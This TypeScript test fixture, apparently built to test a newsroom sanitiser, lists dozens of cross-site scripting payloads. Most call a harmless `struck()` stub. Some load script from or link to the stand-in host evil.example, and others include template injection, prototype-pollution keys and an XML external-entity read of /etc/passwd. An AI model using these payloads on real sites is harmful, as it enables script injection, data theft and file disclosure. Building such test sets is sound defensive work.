/**
 * Texts that would run a script if they ever became markup, an address, a style or a template: one for each way known into a page. Each
 * calls `struck()`, which tests define. None has a control character, so that every one may stand in a field of the newsroom.
 */
const events = ['onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'onanimationstart', 'onpointerenter', 'ontoggle', 'onbeforetoggle', 'onscroll', 'onwheel', 'oncut', 'onpaste', 'oncontentvisibilityautostatechange'] as const;

const elements: readonly string[] = [
  '<script>struck()</script>', '<ScRiPt>struck()</sCrIpT>', '<script src="data:text/javascript,struck()"></script>', '<script src=//evil.example/a.js></script>',
  '<script\u00a0>struck()</script>', '<script/x>struck()</script>', '<<script>struck()//<</script>', '<scr<script>ipt>struck()</scr</script>ipt>', '<script>/*<!--*/struck()/*-->*/</script>',
  '<script type="module">struck()</script>', '<script nonce>struck()</script>', '<script async src="blob:struck"></script>',
  '<img src=x onerror=struck()>', '<img src="x" onerror="struck()">', '<img src=x onerror="&#115;truck()">', '<img/src=x/onerror=struck()>', '<img srcset="x" onerror=struck()>', '<image href=x onerror=struck()>',
  '<img src="javascript:struck()">', '<img src=x:x onerror=eval(atob(\'c3RydWNrKCk=\'))>', '<picture><source srcset=x><img src=x onerror=struck()></picture>',
  '<svg onload=struck()>', '<svg><script>struck()</script></svg>', '<svg><script href="data:,struck()"/></svg>', '<svg><animate onbegin=struck() attributeName=x dur=1s>', '<svg><set onbegin=struck() attributeName=x>',
  '<svg><a href="javascript:struck()"><text y=9>按这里</text></a></svg>', '<svg><use href="data:image/svg+xml,<svg id=x onload=struck()>#x"/></svg>', '<svg><foreignObject><iframe srcdoc="<script>parent.struck()</script>"></iframe></foreignObject></svg>', '<svg><style><img src=x onerror=struck()></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=struck()>', '<math href="javascript:struck()">按这里</math>', '<math><annotation-xml encoding="text/html"><img src=x onerror=struck()></annotation-xml></math>',
  '<iframe src="javascript:struck()"></iframe>', '<iframe srcdoc="<script>parent.struck()</script>"></iframe>', '<iframe onload=struck()></iframe>', '<embed src="javascript:struck()">', '<object data="javascript:struck()"></object>', '<object data="data:text/html,<script>parent.struck()</script>"></object>', '<applet code=struck></applet>',
  '<body onload=struck()>', '<body background="javascript:struck()">', '<html onmouseover=struck()>', '<frameset onload=struck()>', '<base href="javascript:struck();//">', '<base href="//evil.example/">',
  '<link rel=stylesheet href="data:text/css,*{background:url(//evil.example)}">', '<link rel=import href="data:text/html,<script>struck()</script>">', '<meta http-equiv=refresh content="0;url=javascript:struck()">', '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<style>@import "javascript:struck()";</style>', '<style>*{background:url("javascript:struck()")}</style>', '<div style="background:url(javascript:struck())">', '<div style="width:expression(struck())">', '<p style="behavior:url(#struck)">',
  '<form action="javascript:struck()"><button>按这里</button></form>', '<form><button formaction="javascript:struck()">按这里</button></form>', '<isindex action="javascript:struck()" type=image>', '<input autofocus onfocus=struck()>', '<select autofocus onfocus=struck()>', '<textarea autofocus onfocus=struck()>', '<keygen autofocus onfocus=struck()>',
  '<video src=x onerror=struck()>', '<video><source onerror=struck()></video>', '<audio src=x onerror=struck()>', '<video poster="javascript:struck()">', '<track src=x onerror=struck()>',
  '<details open ontoggle=struck()>', '<dialog open onclose=struck()>', '<marquee onstart=struck()>', '<marquee loop=1 width=0 onfinish=struck()>', '<bgsound src="javascript:struck()">', '<xss id=x tabindex=1 onfocus=struck()>', '<a autofocus tabindex=1 onfocus=struck()>按这里</a>',
  '<noscript><p title="</noscript><img src=x onerror=struck()>">', '<template><script>struck()</script></template>', '<template shadowrootmode=open><script>struck()</script></template>', '<plaintext>struck()', '<xmp><img src=x onerror=struck()></xmp>', '<title><img src=x onerror=struck()></title>', '<textarea></textarea><img src=x onerror=struck()>',
];
const addresses: readonly string[] = [
  '<a href="javascript:struck()">按这里</a>', '<a href="JaVaScRiPt:struck()">按这里</a>', '<a href=" javascript:struck()">按这里</a>', '<a href="java&#10;script:struck()">按这里</a>', '<a href="java&Tab;script:struck()">按这里</a>', '<a href="&#x6A;avascript:struck()">按这里</a>', '<a href="data:text/html,<script>struck()</script>">按这里</a>', '<a href="vbscript:struck()">按这里</a>', '<a href="javascript://%0astruck()">按这里</a>', '<a href="//evil.example">按这里</a>', 'javascript:struck()', 'data:text/html;base64,PHNjcmlwdD5zdHJ1Y2soKTwvc2NyaXB0Pg==',
];
const contexts: readonly string[] = [
  '"><script>struck()</script>', "'><script>struck()</script>", '"><img src=x onerror=struck()>', '" autofocus onfocus="struck()', "' autofocus onfocus='struck()", '` onmouseover=struck() `', '--><script>struck()</script>', ']]><script>struck()</script>', '</title><script>struck()</script>', '</textarea><script>struck()</script>', '</style><script>struck()</script>', '</script><script>struck()</script>', '*/struck()/*', "';struck();//", '";struck();//', '\\";struck();//', '</text><script>struck()</script><text>', '</svg><img src=x onerror=struck()>',
  '{{constructor.constructor("struck()")()}}', '${struck()}', '#{struck()}', '<%= struck() %>', '{{{struck()}}}', '{"__html":"<img src=x onerror=struck()>"}', '__proto__', 'constructor', '&lt;script&gt;struck()&lt;/script&gt;', '&#60;script&#62;struck()&#60;/script&#62;', '%3Cscript%3Estruck()%3C/script%3E', '\\u003cscript\\u003estruck()\\u003c/script\\u003e', '＜script＞struck()＜/script＞', '<!--[if IE]><script>struck()</script><![endif]-->', '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;', '<?xml-stylesheet href="javascript:struck()"?>', '=HYPERLINK("javascript:struck()")', "<!--'><img src=x onerror=struck()>-->", '[按这里](javascript:struck())', '![](x"onerror="struck())',
];

/** Every one of them, each once. */
export const hostileTexts: readonly string[] = [...new Set([...elements, ...events.map((name) => `<div ${name}=struck() style="animation:x;content-visibility:auto" tabindex=1>字</div>`), ...addresses, ...contexts])];
